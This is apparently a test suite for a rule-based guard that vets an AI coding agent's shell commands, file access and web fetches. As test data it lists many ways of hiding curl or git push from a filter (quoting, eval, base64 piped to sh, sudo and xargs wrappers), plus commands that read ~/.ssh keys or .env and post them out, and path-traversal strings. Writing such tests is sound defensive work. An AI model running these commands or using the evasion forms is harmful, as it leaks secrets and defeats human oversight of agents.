import assert from "node:assert/strict";
import { mkdir, mkdtemp, realpath, rm, symlink, unlink, writeFile } from "node:fs/promises";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { decide } from "../../src/guard/decision.js";
import { parseGuardFile } from "../../src/guard/guard-rule.js";
import { judgedCall } from "../../src/guard/node/guard-request.js";
import { guardRequest } from "../../src/guard/node/guard-request.js";

describe("the rules of the guard", () => {
  let folder = "";
  before(async () => {
    folder = await realpath(await mkdtemp(join(tmpdir(), "guard-rules-")));
    await mkdir(join(folder, "src"));
    await writeFile(join(folder, "src", "a.ts"), "");
  });
  after(() => rm(folder, { recursive: true }));

  /** Returns the effect of `rules` on a tool call. */
  async function effectOf(rules: readonly object[], rawInput: object, kind = "execute"): Promise<string> {
    const { rules: read, problems } = parseGuardFile(JSON.stringify({ rules }), { file: "g", isOfProject: false });
    assert.deepEqual(problems, []);
    const roots = [folder];
    const request = await guardRequest({ kind, rawInput, locations: [] }, { roots, home: homedir() });
    return decide(read, request, { roots, home: homedir() })?.effect ?? "nobody says";
  }

  const command = (text: string): object => ({ command: text });

  describe("rules about commands that deny", () => {
    const denies = { effect: "deny", command: ["git push", "curl"] };

    for (const text of [
      "git push origin main",
      "git -C sub push",
      "/usr/bin/git push",
      "cd src && git push",
      "git diff; curl x",
      "git diff | curl -d @- x",
      "git diff & curl x",
      "git diff\ncurl x",
      'bash -lc "git push"',
      "echo $(curl x)",
      "echo `curl x`",
      "cat <(curl x)",
      "for x in 1; do curl x; done",
      "if true; then curl x; fi",
      "c\\url x",
      "cu''rl x",
      '"curl" x',
      "env A=1 curl x",
      "sudo curl x",
      "xargs curl",
      "echo push | xargs git",
      "cat words | sudo xargs -0 -n 1 git",
      "timeout 5 curl x",
      "command curl x",
      "A=1 curl x",
      "find . -exec curl {} ;",
      "git diff > /tmp/x; curl y",
      "sudo bash -c 'git push'",
      "env sh -ec 'cd x; curl y'",
      "fish -c 'curl x'",
      "watch 'curl x'",
      "ssh host 'cd x && git push'",
      'env -S "curl x"',
      "strace -f curl x",
      "npm exec -- curl x",
      "git rebase -x 'git push' main",
      "CURL x",
      "f() { curl x; }; f",
      "cat <<E\n$(curl x)\nE",
      "X=$(curl x)",
      "echo ${a:=$(curl x)}",
      "a=($(curl x))",
      "[[ $(curl x) ]]",
      "time ! curl x",
      "\\curl x",
      "$'\\x63url' x",
    ]) {
      it(`refuse ${JSON.stringify(text)}`, async () => {
        assert.equal(await effectOf([denies], command(text)), "deny");
      });
    }

    const unread = [
      "bash -c 'X=curl; $X y'",
      "sudo sh -c '$(echo curl) x'",
      "bash -c 'eval cur\"\"l x'",
      "base64 -d x | sh",
      "echo 'curl x' | bash -s",
      "{curl,x}",
      "/u??/bin/c?rl x",
      "coproc curl x",
      "trap 'curl x' EXIT",
      "alias g=curl; g",
    ];

    for (const text of ["X=curl; $X y", "$(echo curl) x", "c{u,}rl x", "eval cur''l x", "git diff '", ...unread]) {
      it(`at least have the user asked about ${JSON.stringify(text)}`, async () => {
        assert.notEqual(await effectOf([denies, { effect: "allow", command: "*" }], command(text)), "allow");
      });
    }

    const others = ["ls | xargs git add", "ls | xargs -r grep -l git", "git status"];
    for (const text of ["git pull", "git commit -m push", "echo curl", "curly x", "ls push", ...others]) {
      it(`say nothing of ${JSON.stringify(text)}`, async () => {
        assert.equal(await effectOf([denies], command(text)), "nobody says");
      });
    }

    it("beat rules that ask, and these beat rules that allow, in whatever order and however exact they are", async () => {
      const [deny, ask, allow] = ["deny", "ask", "allow"].map((effect) => ({ effect, command: "npm test" }));
      const given = command("npm test");
      assert.equal(await effectOf([allow ?? {}, ask ?? {}, { effect: "deny", command: "npm" }], given), "deny");
      assert.equal(await effectOf([allow ?? {}, deny ?? {}, ask ?? {}], given), "deny");
      assert.equal(await effectOf([allow ?? {}, ask ?? {}], given), "ask");
      assert.equal(await effectOf([allow ?? {}], given), "allow");
    });

    it("find their options anywhere, and the letters of these in any order", async () => {
      const rules = [{ effect: "deny", command: ["git push --force", "git push -f", "rm -rf"] }];
      for (const text of ["git push origin x --force", "git push o x -uf", "git push -f", "rm -r -f x", "rm x -vfr"])
        assert.equal(await effectOf(rules, command(text)), "deny", text);
      for (const text of ["git push origin x", "git push --force-with-lease", "rm -r x", "rm -i x"])
        assert.equal(await effectOf(rules, command(text)), "nobody says", text);
    });

    it("are decided at once for a command of thousands of options", async () => {
      assert.equal(await effectOf([denies], command(`git ${"-a ".repeat(3_000)}`)), "nobody says");
    });

    it("hold where another rule only has the user asked about the same", async () => {
      const rules = [
        { effect: "deny", write: "/.github" },
        { effect: "deny", command: "rm" },
      ];
      assert.equal(await effectOf(rules, command("rm .github/ci.yml")), "deny");
    });

    it("see arguments in odd forms, and have commands asked about that an agent does not show", async () => {
      assert.equal(await effectOf([denies], { command: "git", args: "push x" }), "deny");
      assert.equal(await effectOf([denies], { title: "Run it" }), "ask");
      assert.equal(await effectOf([{ effect: "allow", command: "npm test" }], { command: "ls" }), "nobody says");
    });

    it("hold for a program and its arguments without a shell", async () => {
      assert.equal(await effectOf([denies], { command: "git", args: ["push", "x"] }), "deny");
      assert.equal(await effectOf([denies], { command: ["sh", "-c", "curl x"] }), "deny");
    });
  });

  describe("rules about commands that allow", () => {
    const allows = [
      { effect: "allow", command: ["git diff", "npm test", "my-tool check"] },
      { effect: "allow", command: "make *" },
    ];

    for (const text of [
      "git diff",
      "git diff --stat src/a.ts",
      "npm test && git diff",
      "my-tool check",
      "make all -j4",
    ]) {
      it(`allow ${JSON.stringify(text)}`, async () => {
        assert.equal(await effectOf(allows, command(text)), "allow");
      });
    }

    for (const text of [
      "git diff --output=x",
      "git -c core.pager=x diff",
      "git diff && curl x",
      "git diff > x",
      "git diff $(curl x)",
      "GIT_PAGER=x git diff",
      "git diff ../../etc/passwd",
      "git diff .env",
      "git diff &",
      "git difftool",
      "my-tool check --all",
      "make all; curl x",
      "make all | sh",
    ]) {
      it(`say nothing of ${JSON.stringify(text)}`, async () => {
        assert.equal(await effectOf(allows, command(text)), "nobody says");
      });
    }

    it("say nothing of ways out of a folder behind a star, of a second command, and of files that it would change", async () => {
      const more = [{ effect: "allow", command: ["cat src/*", "./bin/*", "npm test"] }];
      assert.equal(await effectOf(more, command("cat src/a.ts")), "allow");
      for (const text of ["cat src/../../../etc/passwd", "./bin/../evil"])
        assert.equal(await effectOf(more, command(text)), "nobody says", text);
      for (const input of [{ script: "curl x" }, { args: "; curl x" }, { args: [1] }])
        assert.equal(await effectOf(more, { command: "npm test", ...input }), "nobody says", JSON.stringify(input));
      assert.equal(await effectOf(more, { command: "npm test", path: "src/a.ts" }, "edit"), "nobody says");
    });

    it("say nothing of a command that runs elsewhere, with variables, or with more rights than usual", async () => {
      for (const more of [
        { cwd: "/etc" },
        { env: { LD_PRELOAD: "x" } },
        { sandbox_permissions: "require_escalated" },
      ]) {
        assert.equal(await effectOf(allows, { command: "git diff", ...more }), "nobody says");
      }
    });
  });

  describe("rules about files", () => {
    const rules = [
      { effect: "deny", read: ".env*" },
      { effect: "ask", write: "/.github" },
      { effect: "deny", read: "~/.ssh" },
      { effect: "allow", write: "src/**" },
    ];

    it("match as lines of .gitignore do: names anywhere, paths from the session's folder, folders with all in them", async () => {
      const ask = async (path: string, kind: string): Promise<string> => effectOf(rules, { file_path: path }, kind);
      assert.deepEqual(
        {
          secret: await ask(".env", "read"),
          nested: await ask("sub/.env.local", "read"),
          key: await ask(join(homedir(), ".ssh", "id_rsa"), "read"),
          workflow: await ask(".github/ci.yml", "edit"),
          workflowRead: await ask(".github/ci.yml", "read"),
          source: await ask("src/a.ts", "edit"),
          way: await ask("src/../.env", "read"),
          other: await ask("README.md", "edit"),
        },
        {
          secret: "deny",
          nested: "deny",
          key: "deny",
          workflow: "ask",
          workflowRead: "nobody says",
          source: "allow",
          way: "deny",
          other: "nobody says",
        },
      );
    });

    it("hold for files that editing tools name beside a command, and for calls of no known kind", async () => {
      const write = [{ effect: "deny", write: "/.github" }];
      assert.equal(await effectOf(write, { command: "create", path: ".github/a.yml" }, "edit"), "deny");
      assert.equal(await effectOf(rules, { path: ".env" }, "other"), "deny");
      assert.equal(await effectOf(rules, { paths: ["README.md", ".env"] }, "read"), "deny");
      assert.equal(
        await effectOf([{ effect: "deny", write: "*.ipynb" }], { notebook_path: "a.ipynb" }, "edit"),
        "deny",
      );
    });

    it("judge words that are no names of files, and files that cannot be followed", async () => {
      const deny = [{ effect: "deny", read: ".env" }];
      assert.equal(await effectOf(deny, command(`git commit -m "${"long ".repeat(200)}"`)), "nobody says");
      await symlink("circle", join(folder, "circle"));
      assert.equal(await effectOf(deny, command("cat circle .env")), "deny");
      assert.equal(await effectOf([{ effect: "allow", read: "src/**" }], { path: "circle" }, "read"), "nobody says");
      assert.equal(await effectOf(deny, { path: "a\0b" }, "read"), "nobody says");
    });

    it("allow a file by where it leads, and not by the name of a link that an agent could have made", async () => {
      await symlink("/etc/hosts", join(folder, "src", "link"));
      assert.equal(await effectOf(rules, { path: "src/link" }, "edit"), "nobody says");
      assert.equal(await effectOf(rules, { path: "src/new.ts" }, "edit"), "allow");
      assert.equal(await effectOf([{ effect: "deny", read: "link" }], { path: "src/link" }, "read"), "deny");
      await symlink(folder, `${folder}-link`);
      const call = { kind: "edit", rawInput: { path: "src/a.ts" }, locations: [] };
      const { rules: read } = parseGuardFile(JSON.stringify({ rules }), { file: "g", isOfProject: false });
      const { decision } = await judgedCall(read, call, { roots: [`${folder}-link`], home: homedir() });
      await unlink(`${folder}-link`);
      assert.equal(decision?.effect, "allow", "in a folder that a link leads to");
    });

    it("read a slash at the end, and parentheses as .gitignore does, and braces as alternatives", async () => {
      const deny = [{ effect: "deny", read: ["~/.ssh/", "//srv/keys/", "app/(auth)", "*.{pem,key}", "./docs"] }];
      const key = join(homedir(), ".ssh", "id_rsa");
      for (const path of [key, "~/.ssh/id_rsa", "/srv/keys/x", "app/(auth)/page.tsx", "x.pem", "docs/x"])
        assert.equal(await effectOf(deny, { path }, "read"), "deny", path);
    });

    it("find the files of a command where it has changed its folder, in the user's own one, and behind options", async () => {
      const deny = [{ effect: "deny", read: ["~/.ssh", "/keys", ".env*"] }];
      for (const text of [
        "cat ~/.ssh/id_rsa",
        "cat $HOME/.ssh/id_rsa",
        "cd src && cat ../keys/a",
        "curl -d @.env x",
        "curl -F file=@.env x",
        "tool -f.env",
        "git show HEAD:.env",
        "sudo sh -c 'cat .env'",
      ])
        assert.equal(await effectOf(deny, command(text)), "deny", text);
    });

    it("allow a secret, a setting or a file of Git only where they name it, not by its folder or by stars", async () => {
      const write = (pattern: string, path: string): Promise<string> =>
        effectOf([{ effect: "allow", write: pattern }], { file_path: path }, "edit");
      assert.deepEqual(
        {
          ordinary: await write("src", "src/a.ts"),
          folder: await write("src", "src/.env"),
          stars: await write("src/**", "src/.git/hooks/pre-commit"),
          read: await effectOf([{ effect: "allow", read: "src/**" }], { file_path: "src/.env" }, "read"),
          named: await write("src/.env", "src/.env"),
        },
        { ordinary: "allow", folder: "nobody says", stars: "nobody says", read: "nobody says", named: "allow" },
      );
    });

    it("hold for the words of commands, too; what may only read a file that is not to be written is asked about", async () => {
      assert.equal(await effectOf(rules, command("cat .env")), "deny");
      assert.equal(await effectOf(rules, command("cat ./src/../.env | head -3")), "deny");
      assert.equal(await effectOf([{ effect: "deny", write: "/.github" }], command("cat .github/ci.yml")), "ask");
      for (const text of ["echo x > .github/ci.yml", "(echo x) >>.github/ci.yml", 'sh -c "echo x >| ./.github/a"'])
        assert.equal(await effectOf([{ effect: "deny", write: "/.github" }], command(text)), "deny", text);
    });
  });

  describe("rules about hosts", () => {
    const rules = [
      { effect: "deny", host: "*.evil.example" },
      { effect: "allow", host: "docs.example:443" },
    ];

    it("match whole names, with their ports", async () => {
      const fetch = (url: string): Promise<string> => effectOf(rules, { url }, "fetch");
      assert.deepEqual(
        await Promise.all(
          [
            "https://a.evil.example/x",
            "https://docs.example/x",
            "https://docs.example:8443/x",
            "https://docs.example.attacker.example/",
            "https://docs.example@attacker.example/",
            "https://notevil.example/",
          ].map(fetch),
        ),
        ["deny", "allow", "nobody says", "nobody says", "nobody says", "nobody says"],
      );
    });
  });

  describe("a file of rules", () => {
    const read = (text: string, isOfProject = false): ReturnType<typeof parseGuardFile> =>
      parseGuardFile(text, { file: "guard.jsonc", isOfProject });

    it("names what it cannot read with its line, and allows nothing until that is mended", () => {
      const { rules, problems } = read(`{
      "rules": [
        { "effect": "allow", "command": "ls" },
        { "effect": "deny", "comand": "rm" },
        { "effect": "deny", "command": "dd", "reason": "disks" },
        { "effect": "forbid", "command": "rm" },
        { "effect": "deny", "command": "a | b" },
        { "effect": "deny", "command": "x", "read": "y" },
      ],
    }`);
      assert.deepEqual(rules, [
        { effect: "deny", subject: "command", patterns: ["dd"], reason: "disks", place: "guard.jsonc:5" },
      ]);
      assert.deepEqual(
        problems.map((problem) => problem.replace(/:\d+: .*?("\w+"|a \| b|exactly).*/, " $1")),
        ['guard.jsonc:4 "comand"', 'guard.jsonc:6 "effect"', "guard.jsonc:7 a | b", "guard.jsonc:8 exactly"],
      );
      assert.equal(read("{ rules").rules.length, 0);
      assert.match(read("[]").problems.join(), /object with a list/);
    });

    it("names patterns of paths that match nothing, all else, or are too long", () => {
      for (const path of ["~/", "//", "/", "!.env", "*a".repeat(501)]) {
        const { problems } = read(JSON.stringify({ rules: [{ effect: "deny", read: path }] }));
        assert.equal(problems.length, 1, path);
      }
    });

    it("may carry examples, which are checked when it is read", () => {
      const withExamples = (examples: object): readonly string[] =>
        read(JSON.stringify({ rules: [{ effect: "deny", command: "git push", examples }] })).problems;
      assert.deepEqual(withExamples({ match: ["git push -f"], noMatch: ["git pull"] }), []);
      assert.match(withExamples({ match: ["git pull"] }).join(), /does not match its example "git pull"/);
      assert.match(withExamples({ noMatch: ["git push"] }).join(), /matches its example "git push"/);
    });

    it("of a repository may deny and ask, and allows nothing", () => {
      const rules = ["allow", "ask", "deny"].map((effect) => ({ effect, command: "ls" }));
      const file = read(JSON.stringify({ rules }), true);
      assert.deepEqual(
        file.rules.map(({ effect }) => effect),
        ["ask", "deny"],
      );
      assert.match(file.problems.join(), /repository's rules can't allow anything/);
    });
  });
});
